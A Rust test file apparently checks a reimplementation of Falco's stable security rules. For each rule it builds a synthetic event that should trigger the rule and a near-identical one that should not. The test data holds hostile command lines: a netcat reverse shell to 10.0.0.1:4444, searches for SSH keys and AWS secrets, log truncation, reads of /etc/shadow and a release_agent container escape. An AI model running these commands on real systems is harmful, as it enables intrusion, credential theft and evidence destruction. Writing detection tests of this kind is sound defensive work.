//! Each of Falco's stable rules with an event that it matches and one, nearly the same, that it does not.

mod support;

use event::{Protocol, RunId};
use rules::{Options, RuleSet};
use support::{O_CREAT, O_TRUNC, O_WRONLY, Scene, end, file, public, socket};

/// The rule's name, what it matches, and what it does not.
type Pair = (&'static str, Scene, Scene);

fn ptrace(request: u64) -> Scene {
    Scene::call("gdb -p 1", "ptrace").with(|action| action.args = [request, 1, 0, 0, 0, 0])
}

fn linked(call: &str, from: &str, to: &str) -> Scene {
    Scene::call("ln x", call).with(|action| {
        action.path = from.into();
        action.second_path = to.into();
    })
}

fn duplicated(number: i64, protocol: Protocol) -> Scene {
    Scene::call("sh -i", "dup2").with(|action| {
        action.result = number;
        let ends = (Some(end("172.17.0.2", 40_000)), Some(end("203.0.113.9", 4444)));
        action.file = Some(socket(number as i32, protocol, ends.0, ends.1));
    })
}

fn traversal(path: &str) -> Scene {
    Scene::open("node server.js", "/etc/passwd", 0).with(|action| action.path = path.into())
}

fn k8s(name: &str) -> Scene {
    Scene::connect("app", "10.96.0.1", 443).change(|scene| scene.names.hosts.push((b"10.96.0.1".into(), name.into())))
}

fn pairs() -> Vec<Pair> {
    let failed = |path: &str| {
        traversal(path).with(|action| {
            action.file = None;
            action.result = -2;
        })
    };
    vec![
        ("Directory traversal monitored file read", traversal("/var/www/../../etc/passwd"), traversal("/etc/passwd")),
        (
            "Directory traversal monitored file read",
            failed("/var/www/../../etc/shadow"),
            failed("/var/www/../../srv/shadow"),
        ),
        (
            "Read sensitive file trusted after startup",
            Scene::open("nginx -g x", "/etc/shadow", 0),
            Scene::open("nginx -g x", "/etc/shadow", 0).change(|scene| scene.event.boot_ns = 91_000_000_000),
        ),
        (
            "Read sensitive file untrusted",
            Scene::open("cat /etc/shadow", "/etc/shadow", 0),
            Scene::open("passwd -d", "/etc/shadow", 0),
        ),
        (
            "Run shell untrusted",
            Scene::exec("sh -c id").only_below(&["nginx -g x", "containerd-shim"]),
            Scene::exec("sh -c id").only_below(&["bash", "nginx -g x"]),
        ),
        (
            "System user interactive",
            Scene::exec("id").user(33, "www-data").only_below(&["bash", "sshd -D"]),
            Scene::exec("id").user(33, "www-data"),
        ),
        (
            "Terminal shell in container",
            Scene::exec("bash").on_terminal().only_below(&["runc"]),
            Scene::exec("bash").only_below(&["runc"]),
        ),
        (
            "Contact K8S API Server From Container",
            k8s("kubernetes.default.svc.cluster.local"),
            k8s("db.default.svc.cluster.local"),
        ),
        (
            "Netcat Remote Code Execution in Container",
            Scene::exec("nc -e /bin/sh 10.0.0.1 4444"),
            Scene::exec("nc 10.0.0.1 4444"),
        ),
        (
            "Search Private Keys or Passwords",
            Scene::exec("find / -name id_rsa"),
            Scene::exec("find / -name index.html"),
        ),
        (
            "Clear Log Activities",
            Scene::open("sh -c x", "/var/log/auth.log", O_WRONLY | O_TRUNC),
            Scene::open("sh -c x", "/var/log/auth.log", O_WRONLY),
        ),
        ("Remove Bulk Data from Disk", Scene::exec("shred -u x"), Scene::exec("rm x")),
        (
            "Create Symlink Over Sensitive Files",
            linked("symlink", "/etc/shadow", "/tmp/x"),
            linked("symlink", "/etc/hosts", "/tmp/x"),
        ),
        (
            "Create Hardlink Over Sensitive Files",
            linked("linkat", "/etc/shadow", "/tmp/x"),
            linked("linkat", "/tmp/x", "/etc/shadow"),
        ),
        (
            "Packet socket created in container",
            Scene::call("arpspoof", "socket").with(|action| action.args = [17, 3, 0, 0, 0, 0]),
            Scene::call("curl", "socket").with(|action| action.args = [2, 1, 0, 0, 0, 0]),
        ),
        (
            "Redirect STDOUT/STDIN to Network Connection in Container",
            duplicated(1, Protocol::Tcp),
            duplicated(7, Protocol::Tcp),
        ),
        (
            "Redirect STDOUT/STDIN to Network Connection in Container",
            duplicated(0, Protocol::Tcp),
            duplicated(0, Protocol::UnixStream),
        ),
        (
            "Linux Kernel Module Injection Detected",
            Scene::call("insmod x.ko", "finit_module").capable(&["CAP_SYS_MODULE"]),
            Scene::call("insmod x.ko", "finit_module").capable(&["CAP_NET_ADMIN"]),
        ),
        (
            "Debugfs Launched in Privileged Container",
            Scene::exec("debugfs /dev/sda1").change(|scene| scene.privileged = true),
            Scene::exec("debugfs /dev/sda1"),
        ),
        (
            "Detect release_agent File Container Escapes",
            Scene::open("sh", "/mnt/release_agent", O_WRONLY).capable(&["CAP_SYS_ADMIN", "CAP_DAC_OVERRIDE"]),
            Scene::open("sh", "/mnt/release_agent", O_WRONLY).capable(&["CAP_DAC_OVERRIDE"]),
        ),
        ("PTRACE attached to process", ptrace(16), ptrace(7)),
        ("PTRACE anti-debug attempt", ptrace(0), ptrace(16)),
        ("Find AWS Credentials", Scene::exec("grep -r aws_secret_access_key /"), Scene::exec("grep -r colour /")),
        (
            "Execution from /dev/shm",
            Scene::exec("./x").program(|exec| exec.cwd = "/dev/shm".into()),
            Scene::exec("./x").program(|exec| exec.cwd = "/dev/shmem".into()),
        ),
        (
            "Drop and execute new binary in container",
            Scene::exec("/tmp/x").image(|image| image.upper_layer = true),
            Scene::exec("/tmp/x"),
        ),
        (
            "Disallowed SSH Connection Non Standard Port",
            Scene::connect("ssh a@b", "203.0.113.9", 443),
            Scene::connect("ssh a@b", "203.0.113.9", 22),
        ),
        (
            "Disallowed SSH Connection Non Standard Port",
            Scene::connect("ssh a@b", "203.0.113.9", 8080).with(|action| action.result = -115),
            Scene::connect("ssh a@b", "192.168.1.9", 8080),
        ),
        (
            "Fileless execution via memfd_create",
            Scene::exec("x").image(|image| image.from_memory = true),
            Scene::exec("runc x").image(|image| image.from_memory = true),
        ),
        (
            "Fileless execution via memfd_create",
            Scene::exec("x").image(|image| image.from_memory = true),
            Scene::exec("x").image(|image| image.from_memory = true).program(|exec| {
                exec.executable = "(unreachable)/memfd:runc_cloned:/proc/self/exe".into();
            }),
        ),
    ]
}

#[test]
fn every_stable_rule_matches_what_it_is_for_and_not_what_is_nearly_so() {
    let Some(files) = public(&["falco_rules.yaml"]) else { return };
    let (set, _) = RuleSet::load(&files, &Options::default());
    let pairs = pairs();

    for (rule, fires, quiet) in &pairs {
        let matching = fires.matching(&set);
        assert!(matching.iter().any(|name| name == rule), "{rule} is quiet; {matching:?} match");
        let matching = quiet.matching(&set);
        assert!(!matching.iter().any(|name| name == rule), "{rule} fires where it should not");
    }
    for rule in set.rules() {
        assert!(pairs.iter().any(|(name, ..)| *name == rule.name()), "{} has no events here", rule.name());
    }
}

#[test]
fn an_output_has_the_values_of_the_event() {
    let Some(files) = public(&["falco_rules.yaml"]) else { return };
    let (set, _) = RuleSet::load(&files, &Options::default());
    let scene = Scene::open("cat /etc/shadow", "/etc/shadow", 0).user(0, "root").change(|scene| {
        scene.event.run = RunId { slot: 2, generation: 0 };
    });

    let output = scene.ask(|subject| set.find("Read sensitive file untrusted").expect("a rule").output(subject));

    assert_eq!(
        output,
        "Sensitive file opened for reading by non-trusted program | file=/etc/shadow gparent=containerd-shim \
         ggparent=<NA> gggparent=<NA> evt_type=openat user=root user_uid=0 user_loginuid=-1 process=cat \
         proc_exepath=/usr/bin/cat parent=node command=cat /etc/shadow terminal=0"
    );
}

#[test]
fn what_a_container_chose_is_shown_escaped() {
    let set = support::rules(
        "- rule: r\n  desc: d\n  condition: evt.type=openat\n  output: '%fd.name|%proc.cmdline|100%%'\n  priority: info\n",
    );
    let scene = Scene::open("a\u{1b}[2J", "/tmp/\u{202e}x", O_CREAT).with(|action| {
        action.file = Some(file(3, "/tmp/\u{202e}x\n"));
    });

    let output = scene.ask(|subject| set.find("r").expect("a rule").output(subject));

    assert_eq!(output, "/tmp/\\u{202e}x\\n|a\\u{1b}[2J|100%");
}
